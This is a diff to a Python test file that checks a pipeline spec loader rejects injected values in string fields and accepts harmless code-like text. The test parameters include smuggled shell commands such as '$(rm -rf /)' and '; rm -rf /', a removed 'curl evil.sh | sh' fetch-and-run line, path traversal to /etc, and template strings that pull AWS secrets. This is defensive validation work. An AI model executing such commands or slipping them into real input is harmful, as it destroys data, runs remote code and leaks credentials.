@@ -126,19 +126,47 @@ def test_s3_location_allowed(policy):
 @pytest.mark.parametrize(
     "field, value, what",
     [
-        ("sources__0__glob", "$(rm -rf /)", "shell substitution"),
-        ("sources__0__description", "`curl evil.sh | sh`", "shell substitution"),
-        ("sources__0__text_field", "__import__('os').system('id')", "Python code"),
-        ("sources__0__description", "x; rm -rf /", "shell command"),
+        ("sources__0__glob", "$(rm -rf /)", "is not a file glob ('$', '(', ')')"),
+        ("sources__0__glob", "../../etc/*", "leaves the source's location"),
+        ("sources__0__glob", "/etc/*", "leaves the source's location"),
+        ("sources__0__text_field", "__import__('os').system('id')", "is not a record field name"),
+        ("sources__0__url_field", "eval(input())", "is not a record field name"),
         ("sources__0__description", "{{ env.SECRET }}", "template syntax"),
-        ("sources__0__url_field", "eval(input())", "Python code"),
+        ("sources__0__description", "cost: ${AWS_SECRET_ACCESS_KEY}", "template syntax"),
+        ("sources__0__description", "bell \x07 here", "control character"),
+        ("sources__0__description", "x" * 4001, "too long"),
+        ("sources__0__location", "data/\x00a", "control character"),
+        ("stages__0__op", "normalize_text@1; rm -rf /", "is not an operator reference"),
     ],
 )
-def test_code_in_string_fields_rejected(policy, field, value, what):
+def test_strings_outside_their_type_are_rejected_naming_field_and_fix(policy, field, value, what):
     with pytest.raises(SpecError) as exc:
         load_spec(spec_with(**{field: value}), policy)
-    assert what in str(exc.value)
-    assert field.replace("__0__", "[0].") in str(exc.value)
+    where = field.replace("__0__", "[0].").replace("stages[0].op", "stages[0].steps[0].op")  # the one-step shorthand
+    issue = next(i for i in exc.value.issues if i.field == where)
+    assert what in issue.message
+    # the message says what the field takes instead
+    assert any(fix in issue.message for fix in ("use ", "write ", "shorten", "e.g.", "relative to it"))
+
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("sources__0__description", "the subprocess module docs"),
+        ("sources__0__glob", "**/__init__.py"),
+        ("sources__0__description", "code spans like `os.system` and `eval(x)` render as code"),
+        ("sources__0__description", "shell notes: $(date); x; rm -rf / is how the docs say it"),
+        ("sources__0__text_field", "content"),
+        ("sources__0__glob", "part-[0-9]*.jsonl.gz"),
+        ("stages__0__description", "import os, lambda x: x, __main__ and 3 < n > 2"),
+    ],
+)
+def test_harmless_text_is_accepted(policy, field, value):
+    data = spec_with(**{field: value})
+    spec = load_spec(data, policy)
+    assert spec_to_yaml(spec)  # loads and writes back
+    node = spec.sources[0] if field.startswith("sources") else spec.stages[0]
+    assert getattr(node, field.rsplit("__", 1)[1]) == value
 
 
 def test_code_in_operator_config_rejected(policy):
